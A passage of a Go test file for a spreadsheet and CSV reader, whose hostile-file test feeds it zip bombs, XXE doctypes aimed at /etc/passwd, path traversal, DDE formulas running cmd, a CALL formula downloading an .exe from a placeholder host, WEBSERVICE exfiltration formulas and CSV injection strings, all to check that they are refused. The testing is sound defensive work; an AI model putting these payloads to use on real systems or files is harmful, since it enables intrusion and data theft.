package sheet

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"maps"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/thads/thads/internal/thads"
)

// pack makes a workbook from its parts.
func pack(t testing.TB, parts map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range slices.Sorted(maps.Keys(parts)) {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, parts[name]); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const xmlStart = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`

// workbook are the parts of a small workbook around the rows of its sheet.
func workbook(rows string) map[string]string {
	return map[string]string{
		"[Content_Types].xml":        xmlStart + `<Types/>`,
		"_rels/.rels":                xmlStart + `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml":            xmlStart + `<workbook><sheets><sheet name="Sổ" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": xmlStart + `<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="x/sharedStrings" Target="/xl/sharedStrings.xml"/></Relationships>`,
		"xl/sharedStrings.xml":       xmlStart + `<sst><si><t>Mã đơn vị</t></si><si><r><t>Số </t></r><r><t>quyết định</t></r><rPh><t>phonetic</t></rPh></si></sst>`,
		"xl/worksheets/sheet1.xml":   xmlStart + `<worksheet><sheetData>` + rows + `</sheetData></worksheet>`,
	}
}

// with returns the parts with one more, or another one.
func with(parts map[string]string, name, text string) map[string]string {
	parts = maps.Clone(parts)
	parts[name] = text
	return parts
}

// openFile opens a file that must be good.
func openFile(t testing.TB, data []byte) *Book {
	t.Helper()
	b, err := Open(bytes.NewReader(data), int64(len(data)), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// textsOf returns the rows of the first sheet, cells divided by |.
func textsOf(t testing.TB, b *Book) []string {
	t.Helper()
	var rows []string
	for row, err := range b.sheets[0].rows() {
		if err != nil {
			t.Fatal(err)
		}
		cells := make([]string, len(row.Cells))
		for i, c := range row.Cells {
			cells[i] = c.Text
		}
		rows = append(rows, fmt.Sprintf("%d: %s", row.Number, strings.Join(cells, "|")))
	}
	return rows
}

// readFile reads everything of a file: whatever is wrong with it is found.
func readFile(data []byte, l Limits) error {
	b, err := Open(bytes.NewReader(data), int64(len(data)), l)
	if err != nil {
		return err
	}
	for _, s := range b.sheets {
		if _, err := s.merges(); err != nil {
			return err
		}
		for _, err := range s.rows() {
			if err != nil {
				return err
			}
		}
	}
	return b.Inspect(context.Background())
}

func TestTextsOfWorkbooks(t *testing.T) {
	rows := `<row r="2"><c r="B2" t="s"><v> 1 </v></c><c t="inlineStr"><is><r><rPr><b/></rPr><t xml:space="preserve"> a&amp;</t></r><r><t>b</t></r><rPh sb="0" eb="1"><t>x</t></rPh></is></c>` +
		`<c t="str"><f>T(1)</f><v><![CDATA[<c>&amp;]]>&#x1EA1;&#10;</v></c><c t="str"><v>_x0041__x005F_x0042__xD83D__xDE00__xD83D__x00_</v></c></row>` +
		`<!-- no row --><?no row?><x:row xmlns:x="x"><x:c><x:v> 12.5 </x:v></x:c><ext><c><v>9</v></c></ext><c t="b"><v>1</v></c><c s="3"/><c><f>1+1</f></c></x:row><row r="9"><c s="1"/></row>`
	b := openFile(t, pack(t, workbook(rows)))
	want := []string{"2: |Số quyết định| a&b|<c>&amp;ạ\n|A_x0042_😀\ufffd_x00_", "3: 12.5|1||"}
	for range 2 { // as often as wanted
		if diff := cmp.Diff(want, textsOf(t, b)); diff != "" {
			t.Errorf("rows (-want +got):\n%s", diff)
		}
	}
}

func TestSharedStringsAreReadAsFarAsNeeded(t *testing.T) {
	const n = 50_000
	var strs strings.Builder
	for i := range n {
		fmt.Fprintf(&strs, "<si><t>Chữ số %d của bảng</t></si>", i)
	}
	rows := `<row><c t="s"><v>7</v></c></row><row><c t="s"><v>49999</v></c></row><row><c t="s"><v>0</v></c></row>`
	b := openFile(t, pack(t, with(workbook(rows), "xl/sharedStrings.xml", "<sst>"+strs.String()+"</sst>")))
	for row, err := range b.sheets[0].rows() {
		if err != nil || row.Cells[0].Text != "Chữ số 7 của bảng" {
			t.Fatalf("%v, %v", row, err)
		}
		break
	}
	shared := &b.workbook.shared
	if got := len(shared.ends); got == 0 || got == n {
		t.Errorf("%d texts were read for the first row", got)
	}
	if diff := cmp.Diff([]string{"1: Chữ số 7 của bảng", "2: Chữ số 49999 của bảng", "3: Chữ số 0 của bảng"}, textsOf(t, b)); diff != "" {
		t.Error(diff)
	}
	for i := range n {
		if got, err := shared.at(i); err != nil || got != fmt.Sprintf("Chữ số %d của bảng", i) {
			t.Fatalf("text %d is %q, %v", i, got, err)
		}
	}
	if _, err := shared.at(n); !errors.Is(err, errPart) {
		t.Errorf("one text too many: %v", err)
	}
	// What could not be read is not there, also when it is asked for again.
	cut := openFile(t, pack(t, with(workbook(rows), "xl/sharedStrings.xml", "<sst>"+strs.String()+"<si><t>")))
	for range 2 {
		if _, err := cut.workbook.shared.at(n - 1); err == nil {
			t.Error("a text behind the damage")
		}
		if got, err := cut.workbook.shared.at(0); err != nil || got != "Chữ số 0 của bảng" {
			t.Errorf("the first text is %q, %v", got, err)
		}
	}
}

func TestSheets(t *testing.T) {
	parts := with(workbook(`<row><c><v>1</v></c></row>`), "xl/workbook.xml", `<workbook><workbookPr date1904="true"/><sheets>`+
		`<sheet name="Sổ &amp; sách" sheetId="1" r:id="rId1"/><sheet name="Ẩn" sheetId="2" state="hidden" r:id="rId1"/><sheet name="Ẩn hẳn" sheetId="3" state="veryHidden" r:id="rId1"/>`+
		`<sheet name="Biểu đồ" sheetId="4" r:id="rId9"/><sheet name="Hai" sheetId="5" state="visible" r:id="rId1"/></sheets>`+
		`<definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">'Sổ &amp; sách'!$A$1:$B$2</definedName></definedNames></workbook>`)
	b := openFile(t, pack(t, parts))
	if diff := cmp.Diff([]string{"Sổ & sách", "Hai"}, b.Sheets()); diff != "" || !b.date1904 {
		t.Errorf("%s%v", diff, b.date1904)
	}
	var notices []string
	for _, p := range b.Notices() {
		notices = append(notices, fmt.Sprint(p.Sheet, " ", p.Severity, " ", p.Text.EN))
	}
	if diff := cmp.Diff([]string{"Ẩn LEFT_OUT The sheet is hidden and is not read; unhide it where it is wanted", "Ẩn hẳn LEFT_OUT The sheet is hidden and is not read; unhide it where it is wanted"}, notices); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{""}, openFile(t, []byte("a;b\n")).Sheets()); diff != "" {
		t.Error(diff)
	}
}

func TestMergedCells(t *testing.T) {
	open := func(merges string) *Book {
		parts := workbook(`<row><c><v>1</v></c></row>`)
		return openFile(t, pack(t, with(parts, "xl/worksheets/sheet1.xml", strings.Replace(parts["xl/worksheets/sheet1.xml"], "</sheetData>", "</sheetData>"+merges, 1))))
	}
	b := open(`<mergeCells count="3"><mergeCell ref="B2:D3"/><mergeCell ref="A60:A70"/><mergeCell ref="A61:AC61"/></mergeCells>`)
	for range 2 {
		got, err := b.sheets[0].merges()
		if diff := cmp.Diff([]merge{{2, 2, 3, 4}, {60, 1, 70, 1}}, got, cmp.AllowUnexported(merge{})); err != nil || diff != "" {
			t.Errorf("%v (-want +got):\n%s", err, diff)
		}
	}
	for _, ref := range []string{"", "B2:A1", "A0:B1", "1:2", "A1:B9999999", "A1:B2:C3"} {
		if got, err := open(`<mergeCells><mergeCell ref="` + ref + `"/></mergeCells>`).sheets[0].merges(); err == nil {
			t.Errorf("merged cells %q are %v", ref, got)
		}
	}
}

func TestLetters(t *testing.T) {
	for n, want := range map[int]string{0: "", 1: "A", 26: "Z", 27: "AA", 52: "AZ", 53: "BA", 702: "ZZ", 703: "AAA", 16384: "XFD"} {
		if got := Letter(n); got != want {
			t.Errorf("column %d is %q, want %q", n, got, want)
		}
		if back, ok := columnOf(want + "12"); n > 0 && (!ok || back != n) {
			t.Errorf("%s12 is in column %d", want, back)
		}
	}
}

// compound is the file of an old Office program, with a directory of such names
// in its last sector.
func compound(names ...string) []byte {
	const sectors = 200 // beyond what is looked at from the beginning
	b := make([]byte, 512*(sectors+1))
	copy(b, compoundMagic)
	binary.LittleEndian.PutUint16(b[30:], 9)
	binary.LittleEndian.PutUint32(b[48:], 150)
	for i, name := range names {
		copy(b[512*151+128*i:], utf16le(name))
	}
	return b
}

// utf16be is a text of ASCII in UTF-16 with its byte order mark.
func utf16be(s string) []byte {
	b := []byte("\xfe\xff")
	for i := range len(s) {
		b = append(b, 0, s[i])
	}
	return b
}

// twoOfOneName is a workbook with two parts of one name.
func twoOfOneName(t testing.TB, first, second string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range []string{"[Content_Types].xml", first, second} {
		if w, err := z.Create(name); err != nil {
			t.Fatal(err)
		} else if _, err := io.WriteString(w, name); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// patch changes every entry of the directory of a zip file.
func patch(data []byte, change func(i int, header []byte)) []byte {
	data = bytes.Clone(data)
	for at, n := 0, 0; ; n++ {
		i := bytes.Index(data[at:], []byte("PK\x01\x02"))
		if i < 0 {
			return data
		}
		at += i
		change(n, data[at:])
		at += 4
	}
}

func relationship(kind, target, mode string) string {
	return `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `" TargetMode="` + mode + `"/></Relationships>`
}

func TestHostileFiles(t *testing.T) {
	book := workbook(`<row><c t="s"><v>0</v></c></row>`)
	part := func(name, text string) []byte { return pack(t, with(book, name, text)) }
	sheetOf := func(xml string) []byte { return part("xl/worksheets/sheet1.xml", xml) }
	rows := func(rows string) []byte { return pack(t, workbook(rows)) }
	formula := func(f string) []byte { return rows(`<row r="12"><c r="B12"><f>` + f + `</f><v>1</v></c></row>`) }
	overrides := func(name, kind string) []byte {
		return part("[Content_Types].xml", `<Types><Override PartName="`+name+`" ContentType="`+kind+`"/></Types>`)
	}
	sheetRels := func(kind, target, mode string) []byte {
		return part("xl/worksheets/_rels/sheet1.xml.rels", relationship(kind, target, mode))
	}
	intact := pack(t, book)
	many := map[string]string{}
	for i := range 51 {
		many[fmt.Sprint("part", i)] = "x"
	}
	hordes := map[string]string{}
	for i := range 8000 {
		hordes[fmt.Sprint("part", i)] = ""
	}
	var locked bytes.Buffer
	f := excelize.NewFile()
	if err := errors.Join(f.Write(&locked, excelize.Options{Password: "mật khẩu"}), f.Close()); err != nil {
		t.Fatal(err)
	}
	old := DefaultLimits()
	old.Bytes, old.Unpacked, old.Rows, old.Columns, old.Runes, old.Strings, old.Parts, old.Depth, old.Cells = 2<<20, 48<<20, 100, 50, 1000, 1<<16, 50, 20, 300
	old.Ratio, old.WholeRatio = 1<<40, 1<<40
	for name, tt := range map[string]struct {
		data   []byte
		reason Reason
		want   string // in the English sentence
		change func(*Limits)
	}{
		"empty":     {nil, ReasonEmpty, "empty", nil},
		"too large": {make([]byte, 2<<20+1), ReasonBytes, "at most 2 MB", nil},

		// Files of other kinds.
		"old workbook":           {compound("Root Entry", "Workbook"), ReasonOldWorkbook, "old .xls", nil},
		"older workbook":         {compound("Root Entry", "Book"), ReasonOldWorkbook, "old .xls", nil},
		"oldest workbook":        {[]byte("\x09\x02\x06\x00\x00\x00\x10\x00"), ReasonOldWorkbook, "old .xls", nil},
		"Word up to 2003":        {compound("Root Entry", "WordDocument"), ReasonWordDocument, "Word", nil},
		"another compound file":  {compound("Root Entry"), ReasonCompound, "old Office", nil},
		"a compound file's head": {compoundMagic, ReasonCompound, "old Office", nil},
		"password":               {compound("Root Entry", "\x06DataSpaces"), ReasonEncrypted, "password", nil},
		"password of a library":  {locked.Bytes(), ReasonEncrypted, "password", nil},
		"password of the zip":    {patch(intact, func(_ int, h []byte) { h[8] |= 1 }), ReasonEncrypted, "password", nil},
		"PDF":                    {[]byte("%PDF-1.4\n"), ReasonPDF, "PDF", nil},
		"HTML":                   {[]byte("\ufeff\n <HTML xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><table>"), ReasonHTML, "web page", nil},
		"a table of HTML":        {[]byte("<table><tr><td>1</td></tr></table>"), ReasonHTML, "web page", nil},
		"HTML in UTF-16":         {utf16be("<html><table>"), ReasonHTML, "web page", nil},
		"a web archive":          {[]byte("MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n"), ReasonHTML, "web page", nil},
		"XML Spreadsheet 2003":   {[]byte(`<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>`), ReasonXMLSpreadsheet, "2003", nil},
		"its namespace":          {[]byte(`<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>`), ReasonXMLSpreadsheet, "2003", nil},
		"other XML":              {[]byte(`<?xml version="1.0"?><a/>`), ReasonXML, "XML", nil},
		"flat OpenDocument":      {[]byte(`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`), ReasonOpenDocument, "OpenDocument", nil},
		"OpenDocument":           {pack(t, map[string]string{"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"}), ReasonOpenDocument, "OpenDocument", nil},
		"Word":                   {pack(t, map[string]string{"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>"}), ReasonWordDocument, "Word", nil},
		"PowerPoint":             {pack(t, map[string]string{"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<x/>"}), ReasonPresentation, "PowerPoint", nil},
		"a binary workbook":      {pack(t, map[string]string{"[Content_Types].xml": "<Types/>", "xl/workbook.bin": "x"}), ReasonBinaryWorkbook, ".xlsb", nil},
		"its type":               {overrides("/xl/workbook.xml", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"), ReasonBinaryWorkbook, ".xlsb", nil},
		"a zip file":             {pack(t, map[string]string{"a.xlsx": "b"}), ReasonArchive, "unpack it", nil},
		"an empty zip file":      {[]byte("PK\x05\x06" + strings.Repeat("\x00", 18)), ReasonArchive, "unpack it", nil},
		"gzip":                   {[]byte("\x1f\x8b\x08\x00"), ReasonArchive, "unpack it", nil},
		"rar":                    {[]byte("Rar!\x1a\x07"), ReasonArchive, "unpack it", nil},
		"7z":                     {[]byte("7z\xbc\xaf\x27\x1c"), ReasonArchive, "unpack it", nil},
		"PNG":                    {[]byte("\x89PNG\r\n\x1a\n\x00\x00"), ReasonImage, "picture", nil},
		"JPEG":                   {[]byte("\xff\xd8\xff\xe0"), ReasonImage, "picture", nil},
		"BMP":                    {[]byte("BM\x00\x00\x00\x00"), ReasonImage, "picture", nil},
		"RTF":                    {[]byte(`{\rtf1`), ReasonRichText, "RTF", nil},
		"SYLK":                   {[]byte("ID;PWXL;N;E\r\nP;PGeneral\r\n"), ReasonSymbolicLink, "SYLK", nil},
		"a program":              {[]byte("MZ\x90\x00\x03"), ReasonProgram, "do not open", nil},
		"binary":                 {[]byte("a\x00b"), ReasonBinary, "neither", nil},

		// Zip files made to harm, or damaged.
		"cut off":               {intact[:len(intact)/2], ReasonTruncated, "cut off", nil},
		"only the magic":        {[]byte("PK\x03\x04"), ReasonTruncated, "cut off", nil},
		"parts":                 {pack(t, many), ReasonParts, "more than 50 parts", nil},
		"thousands of parts":    {pack(t, hordes), ReasonParts, "more than 50 parts", nil},
		"a bomb":                {sheetOf(strings.Repeat("0", 4<<20)), ReasonRatio, "part of the workbook is packed more than 100 times", func(l *Limits) { l.Ratio = 100 }},
		"a bomb of many parts":  {part("xl/media/x.bin", strings.Repeat("0", 20<<20)), ReasonWholeRatio, "as a whole is packed more than 100 times", func(l *Limits) { l.WholeRatio = 100 }},
		"too much unpacked":     {part("xl/media/x.bin", strings.Repeat("01", 25<<20)), ReasonUnpacked, "unpacks to more than 48 MB", nil},
		"more than fits":        {patch(intact, func(_ int, h []byte) { binary.LittleEndian.PutUint32(h[24:], 0xFFFFFFF0) }), ReasonUnpacked, "unpacks to more than 48 MB", nil},
		"two parts of one name": {twoOfOneName(t, "xl/a.xml", "xl/a.xml"), ReasonTwice, "two parts named", nil},
		"of nearly one name":    {twoOfOneName(t, "xl/a.xml", `XL\A.xml`), ReasonTwice, "two parts named", nil},
		"parts that overlap": {patch(intact, func(i int, h []byte) {
			if i == 1 {
				binary.LittleEndian.PutUint32(h[42:], 0) // begins where the first does
			}
		}), ReasonOverlap, "overlap", nil},
		"a part beyond the end": {patch(intact, func(i int, h []byte) {
			if i == 1 {
				binary.LittleEndian.PutUint32(h[20:], 1<<20)
			}
		}), ReasonDamaged, "damaged", nil},
		"a part before the file":      {patch(intact, func(_ int, h []byte) { copy(h[42:], "\xff\xff\xff\xf0") }), ReasonDamaged, "damaged", nil},
		"parts longer than they say":  {patch(intact, func(_ int, h []byte) { binary.LittleEndian.PutUint32(h[24:], 10) }), ReasonDamaged, "damaged", nil},
		"a checksum":                  {patch(intact, func(_ int, h []byte) { h[16] ^= 1 }), ReasonDamaged, "damaged", nil},
		"a packing nobody knows":      {patch(intact, func(_ int, h []byte) { h[10] = 99 }), ReasonDamaged, "damaged", nil},
		"nothing but types":           {pack(t, map[string]string{"[Content_Types].xml": "<Types/>"}), ReasonDamaged, "damaged", nil},
		"no workbook":                 {part("_rels/.rels", "<Relationships/>"), ReasonDamaged, "damaged", nil},
		"a workbook that is not here": {part("_rels/.rels", relationship("officeDocument", "../../../etc/passwd", "Internal")), ReasonDamaged, "damaged", nil},

		// XML made to harm, or damaged.
		"document type":        {sheetOf(`<!DOCTYPE a [<!ENTITY b "c">]><worksheet/>`), ReasonDocumentType, "document type", nil},
		"entities of entities": {part("xl/sharedStrings.xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><sst><si><t>&b;</t></si></sst>`), ReasonDocumentType, "document type", nil},
		"one in the relations": {part("_rels/.rels", `<!DOCTYPE x SYSTEM "file:///etc/passwd"><Relationships/>`), ReasonDocumentType, "document type", nil},
		"entity of nowhere":    {rows(`<row><c t="str"><v>&xxe;</v></c></row>`), ReasonDamaged, "damaged", nil},
		"character of none":    {rows(`<row><c t="str"><v>&#0;</v></c></row>`), ReasonDamaged, "damaged", nil},
		"half a character":     {rows(`<row><c t="str"><v>&#xD800;</v></c></row>`), ReasonDamaged, "damaged", nil},
		"control character":    {rows("<row><c t=\"str\"><v>\x01</v></c></row>"), ReasonDamaged, "damaged", nil},
		"no UTF-8":             {rows("<row><c t=\"str\"><v>\xe0</v></c></row>"), ReasonDamaged, "damaged", nil},
		"another encoding":     {sheetOf(`<?xml version="1.0" encoding="UTF-16"?><worksheet/>`), ReasonDamaged, "damaged", nil},
		"no XML":               {sheetOf("]]>"), ReasonDamaged, "damaged", nil},
		"no end":               {sheetOf("<worksheet><sheetData><row>"), ReasonDamaged, "damaged", nil},
		"two roots":            {sheetOf("<worksheet><sheetData/></worksheet><worksheet/>"), ReasonDamaged, "damaged", nil},
		"another root":         {sheetOf("<chartsheet><sheetData/></chartsheet>"), ReasonDamaged, "damaged", nil},
		"crossed elements":     {rows(`<row><c><v>1</c></v></row>`), ReasonDamaged, "damaged", nil},
		"depth":                {rows("<row>" + strings.Repeat("<a>", 30) + strings.Repeat("</a>", 30) + "</row>"), ReasonDepth, "nested more than 20 levels", nil},
		"depth of the texts":   {part("xl/sharedStrings.xml", strings.Repeat("<sst>", 30)), ReasonDepth, "nested more than 20 levels", nil},
		"a long tag":           {rows(`<row` + strings.Repeat(` x="yyyyyyyy"`, 20_000) + `>`), ReasonToken, "exceeds 64 KB", nil},
		"a long formula":       {formula(strings.Repeat("1+", 40_000) + "1"), ReasonToken, "exceeds 64 KB", nil},

		// Sheets beyond what is taken.
		"string of nowhere":     {rows(`<row><c t="s"><v>99</v></c></row>`), ReasonDamaged, "damaged", nil},
		"negative string":       {rows(`<row><c t="s"><v>-1</v></c></row>`), ReasonDamaged, "damaged", nil},
		"string of no number":   {rows(`<row><c t="s"><v>99999999999999999999</v></c></row>`), ReasonDamaged, "damaged", nil},
		"rows back":             {rows(`<row r="5"><c><v>1</v></c></row><row r="4"><c><v>1</v></c></row>`), ReasonDamaged, "damaged", nil},
		"row of no number":      {rows(`<row r="99999999"><c><v>1</v></c></row>`), ReasonDamaged, "damaged", nil},
		"row of a huge number":  {rows(`<row r="99999999999999999999"><c><v>1</v></c></row>`), ReasonDamaged, "damaged", nil},
		"columns back":          {rows(`<row><c r="B1"><v>1</v></c><c r="A1"><v>1</v></c></row>`), ReasonDamaged, "damaged", nil},
		"column of no letter":   {rows(`<row><c r="11"><v>1</v></c></row>`), ReasonDamaged, "damaged", nil},
		"column of no sheet":    {rows(`<row><c r="ZZZZZZZZZZ1"><v>1</v></c></row>`), ReasonDamaged, "damaged", nil},
		"two values":            {rows(`<row><c><v>1</v><v>2</v></c></row>`), ReasonDamaged, "damaged", nil},
		"too many columns":      {rows(`<row><c r="XFD1"><v>1</v></c></row>`), ReasonColumns, "more than 50 columns", nil},
		"too many rows":         {rows(strings.Repeat(`<row><c><v>1</v></c></row>`, 101)), ReasonRows, "more than 100 rows", nil},
		"too many cells":        {rows(`<row>` + strings.Repeat(`<c s="1"/>`, 301) + `</row>`), ReasonCells, "more than 300 cells", nil},
		"a long cell":           {rows(`<row><c t="str"><v>` + strings.Repeat("ê", 1001) + `</v></c></row>`), ReasonRunes, "A1 has more than 1000 characters", nil},
		"a longer cell":         {rows(`<row r="3"><c r="C3" t="inlineStr"><is>` + strings.Repeat("<r><t>0123456789</t></r>", 1000) + `</is></c></row>`), ReasonRunes, "C3 has more than 1000 characters", nil},
		"a cell of megabytes":   {rows(`<row><c t="str"><v>` + strings.Repeat("x", 1<<20) + `</v></c></row>`), ReasonRunes, "more than 1000 characters", nil},
		"a long shared text":    {part("xl/sharedStrings.xml", "<sst><si><t>"+strings.Repeat("x", 1<<20)+"</t></si></sst>"), ReasonRunes, "more than 1000 characters", nil},
		"too many texts":        {part("xl/sharedStrings.xml", "<sst>"+strings.Repeat("<si><t>0123456789</t></si>", 6000)+"</sst>"), ReasonStrings, "texts", nil},
		"many texts of nothing": {part("xl/sharedStrings.xml", "<sst>"+strings.Repeat("<si/>", 20_000)+"</sst>"), ReasonStrings, "texts", nil},
		"too many sheets": {part("xl/workbook.xml", "<workbook><sheets>"+func() string {
			var b strings.Builder
			for i := range 201 {
				fmt.Fprintf(&b, `<sheet name="%d" r:id="rId1"/>`, i)
			}
			return b.String()
		}()+"</sheets></workbook>"), ReasonSheets, "more than 200 sheets", nil},
		"two sheets of one name": {part("xl/workbook.xml", `<workbook><sheets><sheet name="a" r:id="rId1"/><sheet name="a" r:id="rId1"/></sheets></workbook>`), ReasonDamaged, "damaged", nil},

		// What lives in a workbook.
		"macros":                  {part("xl/vbaProject.bin", "x"), ReasonMacros, "macros", nil},
		"macros of another place": {part("xl/sub/vbaProject1.bin", "x"), ReasonMacros, "macros", nil},
		"old macros":              {part("xl/macrosheets/sheet1.xml", "x"), ReasonMacros, "macros", nil},
		"the type of .xlsm":       {overrides("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), ReasonMacros, "macros", nil},
		"the type of old macros":  {overrides("/xl/worksheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"), ReasonMacros, "macros", nil},
		"the type of its parts":   {part("[Content_Types].xml", `<Types><Default Extension="XML" ContentType="application/vnd.ms-office.vbaProject"/></Types>`), ReasonMacros, "macros", nil},
		"a relation to macros":    {part("xl/_rels/workbook.xml.rels", relationship("vbaProject", "x.bin", "")), ReasonMacros, "macros", nil},
		"a sheet of macros":       {sheetOf(`<xm:macrosheet xmlns:xm="x"><sheetData/></xm:macrosheet>`), ReasonMacros, "macros", nil},
		"a name of macros":        {part("xl/workbook.xml", `<workbook><definedNames><definedName name="Auto_Open" xlm="1">A!$A$1</definedName></definedNames></workbook>`), ReasonMacros, "macros", nil},
		"a ribbon":                {part("customUI/customUI.xml", "<x/>"), ReasonMacros, "macros", nil},
		"links":                   {part("xl/externalLinks/externalLink1.xml", "x"), ReasonLinks, "links to other files", nil},
		"a relation to a file":    {part("xl/_rels/workbook.xml.rels", relationship("externalLink", "externalLinks/x.xml", "")), ReasonLinks, "links to other files", nil},
		"a template elsewhere":    {sheetRels("attachedTemplate", "http://x.example/a.xltm", "External"), ReasonLinks, "links to other files", nil},
		"a picture elsewhere":     {sheetRels("image", "http://x.example/a.png", "External"), ReasonLinks, "links to other files", nil},
		"one that does not say":   {sheetRels("image", `\\x.example\a.png`, ""), ReasonLinks, "links to other files", nil},
		"an object elsewhere":     {sheetRels("oleObject", "file:///c:/x.exe", "External"), ReasonEmbedded, "embedded objects", nil},
		"connections":             {part("xl/connections.xml", "<connections/>"), ReasonConnections, "data connections", nil},
		"a query":                 {part("xl/queryTables/queryTable1.xml", "<queryTable/>"), ReasonConnections, "data connections", nil},
		"a relation to a query":   {sheetRels("queryTable", "../x.xml", ""), ReasonConnections, "data connections", nil},
		"an embedded file":        {part("xl/embeddings/oleObject1.bin", "x"), ReasonEmbedded, "embedded objects", nil},
		"a relation to one":       {sheetRels("package", "../media/x.docx", ""), ReasonEmbedded, "embedded objects", nil},
		"ActiveX":                 {part("xl/activeX/activeX1.xml", "x"), ReasonEmbedded, "embedded objects", nil},
		"a relation to ActiveX":   {sheetRels("control", "../x/activeX1.xml", ""), ReasonEmbedded, "embedded objects", nil},
		"an add-in":               {part("xl/webextensions/webextension1.xml", "<x/>"), ReasonEmbedded, "embedded objects", nil},
		"an object in a sheet":    {sheetOf(`<worksheet><sheetData/><oleObjects><oleObject progId="Package"/></oleObjects></worksheet>`), ReasonEmbedded, "embedded objects", nil},
		"WEBSERVICE":              {formula(`_xlfn.WEBSERVICE(&quot;http://x.example/&quot;&amp;A1)`), ReasonFormula, "B12 has a formula that fetches data from a network (WEBSERVICE)", nil},
		"HYPERLINK":               {formula(`HYPERLINK("http://x.example/?"&amp;A1,"Xem")`), ReasonFormula, "B12 has a HYPERLINK that leads out", nil},
		"DDE":                     {formula(`cmd|'/C calc'!A0`), ReasonFormula, "B12 has a formula that runs other programs (DDE)", nil},
		"CALL":                    {formula(`CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x.example/a.exe","a.exe",0,0)`), ReasonFormula, "runs other programs (CALL)", nil},
		"another workbook":        {formula(`SUM([1]Sheet1!A1)`), ReasonLinks, "B12 has a formula that refers to another file ([1])", nil},
		"a formula behind rows":   {sheetOf(`<worksheet><sheetData/><conditionalFormatting><cfRule><formula>EXEC("calc")</formula></cfRule></conditionalFormatting></worksheet>`), ReasonFormula, "outside its cells, has a formula that runs other programs (EXEC)", nil},
		"a formula of a name":     {part("xl/workbook.xml", `<workbook><definedNames><definedName name="x">WEBSERVICE("http://x.example")</definedName></definedNames></workbook>`), ReasonFormula, "The name “x” has a formula", nil},
		"one on a hidden sheet":   {pack(t, with(workbook(`<row r="4"><c r="D4"><f>RTD("a",,"b")</f></c></row>`), "xl/workbook.xml", `<workbook><sheets><sheet name="a" state="hidden" r:id="rId1"/></sheets></workbook>`)), ReasonFormula, "The cell D4 has a formula", nil},

		// CSV.
		"CSV of one quote":        {[]byte("a;b\n\"" + strings.Repeat("x", 1000)), ReasonQuotes, "quotes", nil},
		"CSV of bad quotes":       {[]byte("a;b\nx\"y;z\n"), ReasonQuotes, "line 2", nil},
		"one below a first line":  {[]byte("sep=;\na;b\nx\"y;z\n"), ReasonQuotes, "line 3", nil},
		"CSV of a long record":    {[]byte("a;\"" + strings.Repeat("x\n", maxRecord/2+100<<10)), ReasonRecord, "4 MB", func(l *Limits) { l.Bytes = 64 << 20 }},
		"CSV of another code":     {[]byte("a;b\nTh\x80nh;x\n"), ReasonEncoding, "encoding", nil},
		"CSV broken later":        {[]byte(strings.Repeat("ệệệệệệệệ;b\n", 80) + "Th\xe0nh;x\n"), ReasonEncoding, "A81", nil},
		"CSV of lost characters":  {[]byte("a;b\nTh\ufffdnh;x\n"), ReasonEncoding, "A2", nil},
		"half of UTF-16":          {append(utf16be("a;b\n"), 0xD8, 0x00, 0, 'a'), ReasonEncoding, "A2", nil},
		"CSV of too many rows":    {[]byte(strings.Repeat("a;b\n", 101)), ReasonRows, "more than 100 rows", nil},
		"CSV of many columns":     {[]byte(strings.Repeat(";", 51)), ReasonColumns, "more than 50 columns", nil},
		"CSV of many cells":       {[]byte(strings.Repeat(";;;;;;;;;\n", 31)), ReasonCells, "more than 300 cells", nil},
		"CSV with a long cell":    {[]byte("a;" + strings.Repeat("x", 1001)), ReasonRunes, "B1 has more than 1000 characters", nil},
		"CSV with DDE":            {[]byte("a;b\nx;=cmd|'/C calc'!A0\n"), ReasonFormula, "B2 has a formula", nil},
		"CSV with DDE and a sign": {[]byte("a;b\nx;-cmd|'/C calc'!A0\n"), ReasonFormula, "B2 has a formula", nil},
		"CSV with WEBSERVICE":     {[]byte("a;b\n\"=WEBSERVICE(\"\"http://x.example\"\")\";y\n"), ReasonFormula, "A2 has a formula", nil},
	} {
		l := old
		if tt.change != nil {
			tt.change(&l)
		}
		err := readFile(tt.data, l)
		es, refused := thads.Refusals(err)
		if !refused || ReasonOf(err) != tt.reason || !strings.Contains(err.Error(), tt.want) {
